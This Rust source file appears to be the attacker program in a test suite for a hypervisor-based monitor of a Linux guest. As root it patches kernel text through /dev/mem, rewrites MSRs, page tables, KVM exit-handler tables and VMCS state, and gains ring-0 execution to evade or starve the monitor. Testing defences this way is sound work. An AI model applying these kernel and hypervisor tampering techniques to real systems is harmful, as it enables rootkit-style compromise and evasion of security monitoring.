//! The Linux guest's compromised root, for the `linux-attack*` scenarios. The kernel command line
//! says which attack (`ihmi.attack=<name>`, `ihmi_abi::LinuxAttack`); what the attacker knows of the
//! kernel is what its System.map says (`/etc/ihmi-attacker.map`, a few of its lines) and what root
//! can read in /proc.
//!
//! - `root`: move the system-call entries off the monitor's gates by writing IA32_LSTAR and
//!   IA32_SYSENTER_EIP through /dev/cpu/0/msr (the kernel executes the WRMSRs; L0 must refuse them), then read the monitor's memory
//!   through /dev/mem, page by page from the address L0 put on the kernel command line
//!   (`ihmi.monitor=`; the threat model assumes an attacker can find it). The first pages are the ones
//!   the guest is meant to see (the gate, read + execute); the first private page must stop it.
//! - `kernel-text`: make every later exec skip the process-creation hook, by changing the call to
//!   `begin_new_exec` in the ELF loader so it lands past the hooked `__fentry__` site: one byte of
//!   kernel text, written through a shared /dev/mem mapping of its page.
//! - `gate-pgd`: point the gate's PML4 slot in the page-table-isolation user half of the kernel's
//!   PGD, which every new process copies, at another frame, through a /dev/mem mapping.
//! - `process-pgd`: the same in the PGDs of the running processes (kernel pages L0 cannot lock),
//!   found by scanning guest RAM, pointing the slot at a copy of the gate's page tables in the
//!   attacker's own locked pages (so everything keeps working, as a real attacker's would, until it
//!   swaps the gate page in the copy for its own).
//! - `flood`: make `LINUX_FLOOD_CALLS` system calls back to back, more events than the monitor's ring
//!   holds, so that what they show would be lost.
//! - `compat`: make system calls through the 32-bit entries a 64-bit program can still use,
//!   `int $0x80` and SYSENTER, which a monitor of SYSCALL alone never sees.
//! - `nmi`: make NMIs arrive at any instruction, the gate's included: the RTC's periodic interrupt,
//!   routed by the I/O APIC with delivery mode NMI (its redirection entry rewritten through /dev/mem,
//!   the RTC programmed through its ports), while making system calls; then count what the kernel
//!   took (/proc/interrupts) and report it on port 0xE9. An NMI the CPU delivered inside the
//!   monitor's view would end the guest.
//! - `forge`: run code in ring 0 without writing kernel text: map one of its own pages supervisor-
//!   executable at an unused kernel address (a new entry in the direct map's page directory pointer
//!   table, through /dev/mem), point the `kernel.printk` sysctl's handler at it (the table is
//!   kernel data), and read /proc/sys/kernel/printk. From there it calls the monitor's gate with a
//!   forged system-call request and a forged exec request, and, each in a child, clears CR4.SMEP
//!   and CR0.WP; last, it loads another IDT (LIDT of `idt_table`'s direct-map alias) and makes an
//!   exit (CPUID), reading IDTR before and after.
//! - `io-uring`: create a file, write it, close it and make a directory through an io_uring ring,
//!   whose operations a monitor of system calls alone sees only as `io_uring_enter`.
//! - `identity`: run the refused `ihmi-intruder` as allowed programs (a copy and a hard link under
//!   their names, a symbolic link, a script named like one with the intruder as its interpreter),
//!   run allowed programs changed by a byte and under other names, and load code into its own
//!   memory, which no exec brings in (`ihmi_abi::attack::LINUX_IDENTITY_RUNS`).
//!
//! - the in-hypervisor monitor's (`ihmi_abi::attack::IhmiAttack`, on the `l1` kernel):
//!   - `kvm-exit-handler`: send an exit of KVM's guest to other code without touching text, by
//!     rewriting an entry of KVM's exit-handler table (kernel data) through a /dev/mem mapping;
//!     then run the L1 VMM's probe under it, and put the entry back;
//!   - `kvm-text`: take the monitor's hook out of KVM by writing a NOP over the call L0 put at the
//!     start of `vmx_handle_exit`, through a shared /dev/mem mapping of its page;
//!   - `kvm-vmcs12-region`: start the probe, and once KVM has made its vCPU's VMCS current,
//!     overwrite every VMCS region in RAM (pages that start with the VMCS revision identifier the
//!     CPU reports) with the address of `_text`, as if to send the next exit from L2 there;
//!   - `kvm-l2-map`: be the VMM that gives its guest a page of L1's kernel (through a /dev/mem
//!     mapping as the guest's memory): the page of `vmx_handle_exit`, where the guest writes a NOP
//!     over the monitor's call, from inside KVM's guest;
//!   - `kvm-l2-map-monitor`: the same with the monitor's last page (from `ihmi.monitor=`), which
//!     the guest writes;
//!   - `kvm-l2-vmfunc`: run the probe as a guest that executes VMFUNC (EPTP index 1, the monitor's
//!     view in L1's list), with a #UD handler that reports the fault and goes on;
//!   - `kvm-host-state`: take the `forge` foothold in ring 0, start the probe, and once KVM's vCPU
//!     has its VMCS (a new region in RAM, as for `kvm-vmcs12-region`), VMWRITE its HOST_RIP to the
//!     address of `_text`;
//!   - `kvm-rogue-vmcs`: with the same foothold, VMLAUNCH a VMCS region of its own, then make
//!     KVM's VMCS current again;
//!   - `kvm-ops`: rewrite the word of `kvm_x86_ops` that holds `vmx_handle_exit` while the probe
//!     runs;
//!   - `kvm-starve`: with the same foothold, run KVM's own VMCS from its code, 160 exits of L2 kept
//!     from `vmx_handle_exit` (each before L2's first instruction), then put KVM's fields back.
//!
//! Each step is told to L0 on port 0xE9. A blocked write or read stops the guest: it never returns.

use std::fs::{self, File, OpenOptions};
use std::io;
use std::os::fd::AsRawFd;
use std::os::unix::fs::FileExt;
use std::process::ExitCode;

use ihmi_abi::LinuxAttack;
use ihmi_linux_workload::{debug_line, grant, inb, outb};

const IA32_LSTAR: u64 = 0xc000_0082;
const IA32_SYSENTER_EIP: u64 = 0x176;
const PAGE: u64 = 4096;

fn say(line: &str) {
    println!("{line}");
    let _ = debug_line(line);
}

fn main() -> ExitCode {
    let cmdline = fs::read_to_string("/proc/cmdline").unwrap_or_default();
    // The in-hypervisor monitor's attacks, which run on the `l1` kernel (KVM built in).
    if let Some(a) = cmdline
        .split_whitespace()
        .find_map(ihmi_abi::attack::IhmiAttack::from_kernel_arg)
    {
        use ihmi_abi::attack::IhmiAttack;
        let result = match a {
            IhmiAttack::ExitHandler => kvm_exit_handler(),
            IhmiAttack::KvmText => kvm_text(),
            IhmiAttack::Vmcs12Region => vmcs12_region(&cmdline),
            IhmiAttack::L2Map => kvm_l2_map(None),
            IhmiAttack::L2MapMonitor => kvm_l2_map(Some(&cmdline)),
            IhmiAttack::L2Vmfunc => kvm_l2_vmfunc(),
            IhmiAttack::HostState => kvm_host_state(&cmdline),
            IhmiAttack::RogueVmcs => kvm_rogue_vmcs(&cmdline),
            IhmiAttack::Starve => kvm_starve(&cmdline),
            IhmiAttack::KvmOps => kvm_ops(),
        };
        return match result {
            Ok(()) => ExitCode::SUCCESS,
            Err(e) => {
                say(&format!("ihmi-attack: {e}"));
                ExitCode::FAILURE
            }
        };
    }
    let attack = cmdline
        .split_whitespace()
        .find_map(|w| w.strip_prefix("ihmi.attack="))
        .and_then(LinuxAttack::from_name);
    let result = match attack {
        Some(LinuxAttack::Root) => root(&cmdline),
        Some(LinuxAttack::KernelText) => kernel_text(),
        Some(LinuxAttack::GatePgd) => gate_pgd(&cmdline),
        Some(LinuxAttack::ProcessPgd) => process_pgd(&cmdline),
        Some(LinuxAttack::Flood) => {
            flood();
            return ExitCode::SUCCESS;
        }
        Some(LinuxAttack::Compat) => match compat() {
            Ok(()) => return ExitCode::SUCCESS,
            Err(e) => Err(e),
        },
        Some(LinuxAttack::Nmi) => match nmi() {
            Ok(()) => return ExitCode::SUCCESS,
            Err(e) => Err(e),
        },
        Some(LinuxAttack::Forge) => match forge(&cmdline) {
            Ok(()) => return ExitCode::SUCCESS,
            Err(e) => Err(e),
        },
        Some(LinuxAttack::IoUring) => match io_uring() {
            Ok(()) => return ExitCode::SUCCESS,
            Err(e) => Err(e),
        },
        Some(LinuxAttack::Identity) => match identity() {
            Ok(()) => return ExitCode::SUCCESS,
            Err(e) => Err(e),
        },
        None => Err(format!(
            "no known ihmi.attack= on the command line ({:?})",
            LinuxAttack::ALL.map(LinuxAttack::name)
        )),
    };
    // Coming back at all means the attack was not stopped, or could not be made.
    if let Err(e) = result {
        say(&format!("ihmi-attack: {e}"));
    }
    ExitCode::FAILURE
}

/// The address L0 put on the command line (`ihmi.monitor=0x…`).
fn monitor_address(cmdline: &str) -> Result<u64, String> {
    cmdline
        .split_whitespace()
        .find_map(|w| w.strip_prefix("ihmi.monitor=0x"))
        .and_then(|hex| u64::from_str_radix(hex, 16).ok())
        .ok_or_else(|| "no ihmi.monitor= on the command line".to_string())
}

fn root(cmdline: &str) -> Result<(), String> {
    for (name, msr) in [
        ("IA32_LSTAR", IA32_LSTAR),
        ("IA32_SYSENTER_EIP", IA32_SYSENTER_EIP),
    ] {
        let moved = OpenOptions::new()
            .write(true)
            .open("/dev/cpu/0/msr")
            .and_then(|f| f.write_at(&0xffff_ffff_8100_0000u64.to_le_bytes(), msr));
        match moved {
            Ok(_) => say(&format!("ihmi-attack: moving {name} was ACCEPTED")),
            Err(e) => say(&format!("ihmi-attack: moving {name} was refused ({e})")),
        }
    }
    let monitor = monitor_address(cmdline)?;
    let mem = File::open("/dev/mem").map_err(|e| format!("/dev/mem: {e}"))?;
    // The monitor takes 2 MiB; walk it a page at a time.
    for page in 0..512u64 {
        let at = monitor + page * PAGE;
        say(&format!("ihmi-attack: reading {at:#x} through /dev/mem"));
        let mut stolen = [0u8; 16];
        match mem.read_exact_at(&mut stolen, at) {
            Ok(()) => say(&format!("ihmi-attack: read {at:#x}: {stolen:02x?}")),
            Err(e) => say(&format!("ihmi-attack: {at:#x}: {e}")),
        }
    }
    say("ihmi-attack: the whole monitor region was readable");
    Ok(())
}

/// The kernel as the attacker knows it: the System.map lines it was given, and where /proc/iomem says
/// the kernel's code starts in physical memory.
struct Kernel {
    map: Vec<(u64, String)>,
    /// Physical address of `_text`.
    text_pa: u64,
    text_va: u64,
}

impl Kernel {
    fn learn() -> Result<Self, String> {
        let text = fs::read_to_string("/etc/ihmi-attacker.map")
            .map_err(|e| format!("/etc/ihmi-attacker.map: {e}"))?;
        let map: Vec<(u64, String)> = text
            .lines()
            .filter_map(|l| {
                let mut w = l.split_whitespace();
                let addr = u64::from_str_radix(w.next()?, 16).ok()?;
                Some((addr, w.nth(1)?.to_string()))
            })
            .collect();
        let iomem = fs::read_to_string("/proc/iomem").map_err(|e| format!("/proc/iomem: {e}"))?;
        let text_pa = iomem
            .lines()
            .find(|l| l.trim_end().ends_with(": Kernel code"))
            .and_then(|l| l.trim().split('-').next())
            .and_then(|a| u64::from_str_radix(a, 16).ok())
            .ok_or("no `Kernel code` in /proc/iomem (not root?)")?;
        let mut k = Self {
            map,
            text_pa,
            text_va: 0,
        };
        k.text_va = k.symbol("_text")?;
        Ok(k)
    }

    fn symbols<'a>(&'a self, name: &'a str) -> impl Iterator<Item = u64> + 'a {
        self.map
            .iter()
            .filter(move |(_, n)| n == name)
            .map(|(a, _)| *a)
    }

    fn symbol(&self, name: &str) -> Result<u64, String> {
        self.symbols(name)
            .next()
            .ok_or_else(|| format!("`{name}` is not in the attacker's map"))
    }

    /// The physical address of a kernel-image address.
    fn pa(&self, va: u64) -> u64 {
        va - self.text_va + self.text_pa
    }
}

/// Physical memory from a page boundary on, mapped shared and writable through /dev/mem.
struct PhysPage {
    ptr: *mut u8,
    len: usize,
}

impl PhysPage {
    /// The page that holds `pa`.
    fn map(mem: &File, pa: u64) -> io::Result<Self> {
        Self::map_range(mem, pa & !(PAGE - 1), PAGE)
    }

    /// `len` bytes from the page-aligned `pa` on.
    fn map_range(mem: &File, pa: u64, len: u64) -> io::Result<Self> {
        // SAFETY: a fresh shared mapping of /dev/mem; nothing else in this process refers to the
        // address range the kernel picks.
        let ptr = unsafe {
            libc::mmap(
                std::ptr::null_mut(),
                len as usize,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_SHARED,
                mem.as_raw_fd(),
                pa as libc::off_t,
            )
        };
        if ptr == libc::MAP_FAILED {
            return Err(io::Error::last_os_error());
        }
        Ok(Self {
            ptr: ptr.cast(),
            len: len as usize,
        })
    }

    fn read_u64(&self, offset: usize) -> u64 {
        assert!(offset + 8 <= self.len);
        // SAFETY: inside the mapping; a volatile read of memory the kernel may change.
        unsafe { self.ptr.wrapping_add(offset).cast::<u64>().read_volatile() }
    }

    fn read_u32(&self, offset: usize) -> u32 {
        assert!(offset + 4 <= self.len);
        // SAFETY: inside the mapping; a device register, read once.
        unsafe { self.ptr.wrapping_add(offset).cast::<u32>().read_volatile() }
    }

    fn write_u32(&self, offset: usize, value: u32) {
        assert!(offset + 4 <= self.len);
        // SAFETY: inside the mapping, which is writable.
        unsafe {
            self.ptr
                .wrapping_add(offset)
                .cast::<u32>()
                .write_volatile(value)
        }
    }

    fn write_u8(&self, offset: usize, value: u8) {
        assert!(offset < self.len);
        // SAFETY: inside the mapping, which is writable.
        unsafe { self.ptr.wrapping_add(offset).write_volatile(value) }
    }

    fn write_u64(&self, offset: usize, value: u64) {
        assert!(offset + 8 <= self.len);
        // SAFETY: as in `write_u8`.
        unsafe {
            self.ptr
                .wrapping_add(offset)
                .cast::<u64>()
                .write_volatile(value)
        }
    }
}

impl Drop for PhysPage {
    fn drop(&mut self) {
        // SAFETY: the mapping this value made, unmapped once.
        unsafe { libc::munmap(self.ptr.cast(), self.len) };
    }
}

fn open_mem() -> Result<File, String> {
    OpenOptions::new()
        .read(true)
        .write(true)
        .open("/dev/mem")
        .map_err(|e| format!("/dev/mem: {e}"))
}

/// 12.5 on `kvm_x86_ops`: the word that holds `vmx_handle_exit` (found by its value: the attacker has
/// System.map, not the struct's layout) gets the next word's value while the probe runs. In 6.1 KVM
/// calls that member through a static call patched at boot, so the change redirects nothing here;
/// what it tests is that a change to any word of the struct is found.
fn kvm_ops() -> Result<(), String> {
    use ihmi_abi::attack::IHMI_KVM_OPS_LINE;
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let ops = k.symbol("kvm_x86_ops")?;
    let handler = k.symbol("vmx_handle_exit")?;
    let mut words = [0u8; 8 * 160];
    mem.read_exact_at(&mut words, k.pa(ops))
        .map_err(|e| format!("reading kvm_x86_ops: {e}"))?;
    let word = |i: usize| u64::from_le_bytes(words[8 * i..8 * i + 8].try_into().unwrap_or([0; 8]));
    let index = (0..159)
        .find(|&i| word(i) == handler)
        .ok_or_else(|| format!("no word of kvm_x86_ops holds vmx_handle_exit ({handler:#x})"))?;
    let (was, new) = (word(index), word(index + 1));
    if new == was || new == 0 {
        return Err(format!(
            "words {index} and {} of kvm_x86_ops are {was:#x} and {new:#x}: nothing to redirect",
            index + 1
        ));
    }
    let at = ops + 8 * index as u64;
    let page = PhysPage::map(&mem, k.pa(at)).map_err(|e| format!("mapping {at:#x}: {e}"))?;
    let offset = (k.pa(at) % PAGE) as usize;
    page.write_u64(offset, new);
    say(&format!(
        "{IHMI_KVM_OPS_LINE}{index:#x} {at:#x} {was:#x} {new:#x}"
    ));
    let status = std::process::Command::new("/bin/ihmi-l1-vmm")
        .arg("--probe")
        .status()
        .map_err(|e| format!("/bin/ihmi-l1-vmm: {e}"))?;
    page.write_u64(offset, was);
    say(&format!(
        "ihmi-attack: the probe ran under the rewritten kvm_x86_ops ({status}); word put back"
    ));
    Ok(())
}

fn kvm_exit_handler() -> Result<(), String> {
    use ihmi_abi::attack::{
        IHMI_EXIT_HANDLER_INDEX, IHMI_EXIT_HANDLER_LINE, IHMI_EXIT_HANDLER_SOURCE,
    };
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let table = k.symbol("kvm_vmx_exit_handlers")?;
    let at = table + 8 * IHMI_EXIT_HANDLER_INDEX;
    let mut source = [0u8; 8];
    mem.read_exact_at(&mut source, k.pa(table + 8 * IHMI_EXIT_HANDLER_SOURCE))
        .map_err(|e| format!("reading the exit-handler table: {e}"))?;
    let new = u64::from_le_bytes(source);
    let page = PhysPage::map(&mem, k.pa(at)).map_err(|e| format!("mapping {at:#x}: {e}"))?;
    let offset = (k.pa(at) % PAGE) as usize;
    let was = page.read_u64(offset);
    if new == was || new == 0 {
        return Err(format!(
            "entries {IHMI_EXIT_HANDLER_SOURCE} and {IHMI_EXIT_HANDLER_INDEX} of the table are {new:#x} and {was:#x}: nothing to redirect"
        ));
    }
    page.write_u64(offset, new);
    say(&format!(
        "{IHMI_EXIT_HANDLER_LINE}{at:#x} {was:#x} {new:#x}"
    ));
    // KVM runs its guest with the entry changed: the monitor must see it at the next exit.
    let status = std::process::Command::new("/bin/ihmi-l1-vmm")
        .arg("--probe")
        .status()
        .map_err(|e| format!("/bin/ihmi-l1-vmm: {e}"))?;
    page.write_u64(offset, was);
    say(&format!(
        "ihmi-attack: the probe ran under the rewritten table ({status}); entry put back"
    ));
    Ok(())
}

fn kvm_text() -> Result<(), String> {
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let site = k.pa(k.symbol("vmx_handle_exit")?);
    let page = PhysPage::map(&mem, site).map_err(|e| format!("mapping {site:#x}: {e}"))?;
    let offset = (site % PAGE) as usize;
    say(&format!(
        "{}{site:#x}",
        ihmi_abi::attack::IHMI_KVM_TEXT_LINE
    ));
    // NOP5 (`nopl 0x0(%rax,%rax,1)`), its first four bytes first.
    page.write_u32(offset, u32::from_le_bytes([0x0f, 0x1f, 0x44, 0x00]));
    page.write_u8(offset + 4, 0x00);
    say("ihmi-attack: the monitor's call in vmx_handle_exit was overwritten: KVM runs unwatched");
    Ok(())
}

/// The VMCS revision identifier VMX reports (IA32_VMX_BASIC, bits 30:0): what KVM writes at the
/// start of every VMCS and VMXON region it allocates.
fn vmcs_revision() -> Result<u32, String> {
    let mut basic = [0u8; 8];
    File::open("/dev/cpu/0/msr")
        .and_then(|f| f.read_exact_at(&mut basic, 0x480))
        .map_err(|e| format!("reading IA32_VMX_BASIC: {e}"))?;
    Ok(u32::from_le_bytes([basic[0], basic[1], basic[2], basic[3]]) & 0x7fff_ffff)
}

/// Starts the L1 VMM's probe and waits (polling RAM, all of it but the monitor's region, through
/// /dev/mem mappings) until KVM has made its vCPU's VMCS: a page that starts with the VMCS revision
/// identifier, more of them than before the probe. Returns the probe, the mapped windows and the
/// regions found (window, offset).
#[allow(clippy::type_complexity)]
fn probe_with_vmcs(
    mem: &File,
    monitor: u64,
) -> Result<
    (
        std::process::Child,
        Vec<(u64, PhysPage)>,
        Vec<(usize, usize)>,
    ),
    String,
> {
    let revision = vmcs_revision()?;
    // All of RAM but the monitor's region, mapped once: the polling below makes no system call but
    // its sleep.
    let mut windows = Vec::new();
    for (at, next) in ram_windows(monitor)? {
        let pages =
            PhysPage::map_range(mem, at, next - at).map_err(|e| format!("mapping {at:#x}: {e}"))?;
        windows.push((at, pages));
    }
    let regions = |windows: &[(u64, PhysPage)]| -> Vec<(usize, usize)> {
        let mut found = Vec::new();
        for (w, (_, pages)) in windows.iter().enumerate() {
            for offset in (0..pages.len).step_by(PAGE as usize) {
                if pages.read_u32(offset) == revision {
                    found.push((w, offset));
                }
            }
        }
        found
    };
    // KVM's VMXON region is there from boot; its vCPU's VMCS comes with KVM_CREATE_VCPU, which
    // makes it current (VMPTRLD) in the same call.
    let before = regions(&windows).len();
    let mut probe = std::process::Command::new("/bin/ihmi-l1-vmm")
        .arg("--probe")
        .spawn()
        .map_err(|e| format!("/bin/ihmi-l1-vmm: {e}"))?;
    let mut found = Vec::new();
    for _ in 0..2000 {
        found = regions(&windows);
        if found.len() > before {
            break;
        }
        std::thread::sleep(std::time::Duration::from_micros(200));
    }
    if found.len() <= before {
        let _ = probe.wait();
        return Err(format!(
            "no new VMCS region appeared while the probe ran ({before} before)"
        ));
    }
    Ok((probe, windows, found))
}

fn vmcs12_region(cmdline: &str) -> Result<(), String> {
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let (mut probe, windows, found) = probe_with_vmcs(&mem, monitor_address(cmdline)?)?;
    let evil = k.text_va;
    for &(w, offset) in &found {
        let pages = &windows[w].1;
        // The first word (revision and abort indicator) stays: everything after it is the attacker's.
        for word in (offset + 8..offset + PAGE as usize).step_by(8) {
            pages.write_u64(word, evil);
        }
    }
    say(&format!(
        "{}{}",
        ihmi_abi::attack::IHMI_VMCS12_REGION_LINE,
        found.len()
    ));
    let status = probe
        .wait()
        .map_err(|e| format!("waiting for the probe: {e}"))?;
    say(&format!(
        "ihmi-attack: the probe ran on after its VMCS region was overwritten ({status})"
    ));
    Ok(())
}

/// The VMM that gives its guest a page that is not its memory: KVM's text where the monitor's call
/// is, or with the command line (`ihmi.monitor=`) a page of the monitor's.
fn kvm_l2_map(monitor: Option<&str>) -> Result<(), String> {
    let (site, line) = match monitor {
        None => {
            let k = Kernel::learn()?;
            let site = k.pa(k.symbol("vmx_handle_exit")?);
            (site, ihmi_abi::attack::IHMI_L2_MAP_LINE)
        }
        Some(cmdline) => (
            monitor_address(cmdline)? + MONITOR_SIZE - PAGE + 0x800,
            ihmi_abi::attack::IHMI_L2_MAP_MONITOR_LINE,
        ),
    };
    say(&format!("{line}{site:#x}"));
    let status = std::process::Command::new("/bin/ihmi-l1-vmm")
        .args(["--probe", "--attack-alias", &format!("{site:#x}")])
        .status()
        .map_err(|e| format!("/bin/ihmi-l1-vmm: {e}"))?;
    say(&format!(
        "ihmi-attack: KVM's guest ran with the page at {site:#x} as its memory ({status}): its write went through"
    ));
    Ok(())
}

fn kvm_l2_vmfunc() -> Result<(), String> {
    say("ihmi-attack: running KVM's guest with a VMFUNC to EPTP index 1");
    let status = std::process::Command::new("/bin/ihmi-l1-vmm")
        .args(["--probe", "--attack-vmfunc"])
        .status()
        .map_err(|e| format!("/bin/ihmi-l1-vmm: {e}"))?;
    say(&format!("ihmi-attack: the probe ended ({status})"));
    if status.success() {
        Ok(())
    } else {
        Err(format!("the L1 VMM failed ({status})"))
    }
}

/// The VMCS field encoding of HOST_RIP (SDM appendix B.4.4).
const HOST_RIP: u64 = 0x6c16;

/// The ring-0 foothold, then the probe started and its vCPU's VMCS made: KVM_CREATE_VCPU leaves it
/// current on this (the only) CPU, its host state written, and is given the time to finish (the
/// region appears before). The foothold is undone if the probe cannot be started.
fn ring0_beside_probe(
    k: &Kernel,
    mem: &File,
    cmdline: &str,
) -> Result<(Ring0, std::process::Child), String> {
    let ring0 = enter_ring0(k, mem)?;
    let probe = match monitor_address(cmdline).and_then(|m| probe_with_vmcs(mem, m)) {
        Ok((probe, _windows, _found)) => probe,
        Err(e) => {
            ring0.leave(mem)?;
            return Err(e);
        }
    };
    std::thread::sleep(std::time::Duration::from_millis(20));
    Ok((ring0, probe))
}

fn kvm_host_state(cmdline: &str) -> Result<(), String> {
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    // The VMWRITE is tried again while there is no current VMCS yet (VMfailInvalid).
    let (ring0, probe) = ring0_beside_probe(&k, &mem, cmdline)?;
    let evil = k.text_va;
    let mut rflags = u64::MAX;
    for _ in 0..50 {
        ring0.set(2, HOST_RIP);
        ring0.set(3, evil);
        ring0.set(4, u64::MAX);
        if let Err(e) = ring0.run(4) {
            ring0.leave(&mem)?;
            return Err(e);
        }
        rflags = ring0.get(4);
        if rflags & 1 == 0 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    ring0.leave(&mem)?;
    // VMfailInvalid sets CF, VMfailValid ZF.
    if rflags & 0x41 != 0 {
        let _ = probe.wait_with_output();
        return Err(format!("the VMWRITE failed (RFLAGS {rflags:#x})"));
    }
    say(&format!(
        "{}{evil:#x}",
        ihmi_abi::attack::IHMI_HOST_STATE_LINE
    ));
    let status = probe
        .wait_with_output()
        .map_err(|e| format!("waiting for the probe: {e}"))?
        .status;
    say(&format!(
        "ihmi-attack: the probe ended after the VMWRITE ({status})"
    ));
    Ok(())
}

/// 12.10: a VMCS of the attacker's own, launched from ring 0 while KVM's guest runs. The region is
/// a locked page of this process with the revision identifier in it; the payload puts KVM's VMCS
/// back as current afterwards, so KVM's guest goes on as if nothing happened.
fn kvm_rogue_vmcs(cmdline: &str) -> Result<(), String> {
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let revision = vmcs_revision()?;
    let (region, frame) = locked_page()?;
    // SAFETY: the page is this process's, writable; the first word of a VMCS region.
    unsafe { region.cast::<u32>().write_volatile(revision) };
    let (ring0, probe) = ring0_beside_probe(&k, &mem, cmdline)?;
    say(&format!(
        "ihmi-attack: launching a VMCS of my own at {frame:#x} (revision {revision:#x}) from ring 0"
    ));
    ring0.set(2, frame);
    for word in [4, 6, 7] {
        ring0.set(word, u64::MAX);
    }
    ring0.set(5, 0);
    let ran = ring0.run(5);
    ring0.leave(&mem)?;
    ran?;
    let (rflags, kvms, error, restored) = (ring0.get(4), ring0.get(5), ring0.get(6), ring0.get(7));
    say(&format!(
        "ihmi-attack: KVM's VMCS was {kvms:#x}; VMLAUNCH of mine gave RFLAGS {rflags:#x}, VM-instruction error {error}; KVM's made current again (RFLAGS {restored:#x})"
    ));
    say(&format!(
        "{}{frame:#x} {rflags:#x} {error:#x} {restored:#x}",
        ihmi_abi::attack::IHMI_ROGUE_VMCS_LINE
    ));
    let status = probe
        .wait_with_output()
        .map_err(|e| format!("waiting for the probe: {e}"))?
        .status;
    say(&format!(
        "ihmi-attack: the probe ended after my VMLAUNCH ({status})"
    ));
    if !status.success() {
        return Err(format!("KVM's probe failed after the VMLAUNCH ({status})"));
    }
    Ok(())
}

/// 12.12, starving the monitor: KVM's guest run from code of the attacker's own, from ring 0 with
/// interrupts off, so that none of its exits reaches `vmx_handle_exit` (payload op 6). Every entry
/// is of KVM's registered VMCS, with the host state L0 checks being L1's own and HOST_RIP KVM's
/// `vmx_vmexit`; the exits come before L2's first instruction, and every field the payload changes
/// is put back, so that KVM's guest goes on as if nothing happened. `@vmx` in the forged frame is
/// the kernel's zero page: `vmx_spec_ctrl_restore_host` reads `spec_ctrl` from it (if the CPU has
/// the MSR) and writes nothing there with `@flags` 0.
fn kvm_starve(cmdline: &str) -> Result<(), String> {
    use ihmi_abi::attack::{IHMI_STARVE_EXITS, IHMI_STARVE_LINE};
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let zero_page = k.symbol("empty_zero_page")?;
    let (ring0, probe) = ring0_beside_probe(&k, &mem, cmdline)?;
    say(&format!(
        "ihmi-attack: running KVM's guest from ring 0, {IHMI_STARVE_EXITS} exits kept from vmx_handle_exit"
    ));
    // KVM's VMCS is current once it made it, but VMRESUME needs one KVM launched (error 5 before).
    let mut outcome = Err("KVM's VMCS was never launched".to_string());
    for _ in 0..50 {
        for word in 4..16 {
            ring0.set(word, 0);
        }
        ring0.set(2, IHMI_STARVE_EXITS);
        ring0.set(3, zero_page);
        if let Err(e) = ring0.run(6) {
            outcome = Err(e);
            break;
        }
        let (failed, vmcs, error) = (ring0.get(4), ring0.get(5), ring0.get(8));
        outcome = match (vmcs, failed) {
            (u64::MAX, _) => Err("no VMCS was current".to_string()),
            (_, 0) => Ok(vmcs),
            _ => Err(format!(
                "VMRESUME of KVM's VMCS {vmcs:#x} failed (RFLAGS {failed:#x}, error {error})"
            )),
        };
        if failed == 0 || error != 5 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    ring0.leave(&mem)?;
    let vmcs = match outcome {
        Ok(vmcs) => vmcs,
        Err(e) => {
            let _ = probe.wait_with_output();
            return Err(e);
        }
    };
    let (exits, reason, restored) = (ring0.get(6), ring0.get(7), ring0.get(15));
    say(&format!(
        "ihmi-attack: KVM's VMCS {vmcs:#x}: {exits} exits of its guest came back to me (the last of reason {reason}); its fields put back (RFLAGS bits {restored:#x})"
    ));
    say(&format!(
        "{IHMI_STARVE_LINE}{vmcs:#x} {exits:#x} {reason:#x} {restored:#x}"
    ));
    let status = probe
        .wait_with_output()
        .map_err(|e| format!("waiting for the probe: {e}"))?
        .status;
    say(&format!(
        "ihmi-attack: the probe ended after my VMRESUMEs ({status})"
    ));
    if !status.success() {
        return Err(format!("KVM's probe failed after the VMRESUMEs ({status})"));
    }
    Ok(())
}

fn kernel_text() -> Result<(), String> {
    let k = Kernel::learn()?;
    let mem = open_mem()?;
    let target = k.symbol("begin_new_exec")?;
    // The call to begin_new_exec in one of the ELF loaders (`e8 rel32`), found by reading their text.
    let mut site = None;
    for loader in k.symbols("load_elf_binary") {
        let mut code = vec![0u8; 16 << 10];
        mem.read_exact_at(&mut code, k.pa(loader))
            .map_err(|e| format!("reading load_elf_binary: {e}"))?;
        site = (0..code.len() - 5).find_map(|i| {
            let rel = i32::from_le_bytes([code[i + 1], code[i + 2], code[i + 3], code[i + 4]]);
            let next = loader + i as u64 + 5;
            (code[i] == 0xe8 && next.wrapping_add(rel as i64 as u64) == target)
                .then_some((loader + i as u64, rel))
        });
        if site.is_some() {
            break;
        }
    }
    let (call, rel) = site.ok_or("no call to begin_new_exec in load_elf_binary")?;
    // Land past the hooked site: the 5-byte __fentry__ call, after an endbr64 when there is one.
    let mut head = [0u8; 4];
    mem.read_exact_at(&mut head, k.pa(target))
        .map_err(|e| format!("reading begin_new_exec: {e}"))?;
    let skip = if head == [0xf3, 0x0f, 0x1e, 0xfa] {
        9
    } else {
        5
    };
    let patched = (rel + skip).to_le_bytes();
    let at = k.pa(call + 1);
    say(&format!(
        "ihmi-attack: the ELF loader calls begin_new_exec at {call:#x} (physical {:#x}); rewriting its low byte {:#04x} -> {:#04x} through /dev/mem",
        k.pa(call),
        rel.to_le_bytes()[0],
        patched[0]
    ));
    let page = PhysPage::map(&mem, at).map_err(|e| format!("mapping kernel text: {e}"))?;
    page.write_u8((at % PAGE) as usize, patched[0]);
    say("ihmi-attack: patching kernel text was ACCEPTED: later execs skip the hook");
    Ok(())
}

/// The monitor's 2 MiB region, from the command line.
const MONITOR_SIZE: u64 = 2 << 20;
const ADDRESS: u64 = 0x000f_ffff_ffff_f000;

/// The gate's slot in the user half of init_top_pgt: the PML4 entry that points into the monitor's
/// region (the frames L0 took for the gate's tables). Returns the mapped page, the slot and the entry.
fn gate_slot(k: &Kernel, mem: &File, monitor: u64) -> Result<(PhysPage, u64, usize, u64), String> {
    let user_half = k.pa(k.symbol("init_top_pgt")?) + PAGE;
    let page = PhysPage::map(mem, user_half).map_err(|e| format!("mapping the PGD: {e}"))?;
    let in_monitor =
        |e: u64| e & 1 != 0 && (monitor..monitor + MONITOR_SIZE).contains(&(e & ADDRESS));
    let slot = (256..512)
